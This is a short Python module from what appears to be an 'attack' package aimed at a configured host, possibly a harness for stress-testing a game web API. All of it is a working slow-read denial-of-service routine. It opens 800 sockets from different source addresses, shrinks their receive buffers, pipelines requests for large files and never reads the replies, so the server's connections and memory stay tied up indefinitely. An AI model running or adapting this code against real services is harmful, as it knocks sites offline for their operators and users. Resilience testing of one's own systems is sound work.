"""Answers of hundreds of kilobytes that nobody takes, on as many connections as an address may have."""

from __future__ import annotations

import asyncio
import socket
from functools import partial

from attack.target import HOST, Target, forever

_PATHS = ["/api/schema/openapi.json", "/api/games/fort/components", "/api/games/fort/example", "/preview.png"]


async def attack(target: Target) -> None:
    """Until cancelled."""
    loop = asyncio.get_running_loop()

    async def ask(number: int) -> None:
        with socket.socket() as peer:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            peer.setblocking(False)
            peer.bind((target.address(number), 0))
            await loop.sock_connect(peer, (HOST, target.port))
            request = f"GET {_PATHS[number % len(_PATHS)]} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            await loop.sock_sendall(peer, request * 16)
            await asyncio.sleep(60)

    await forever(*[partial(ask, number) for number in range(800)])
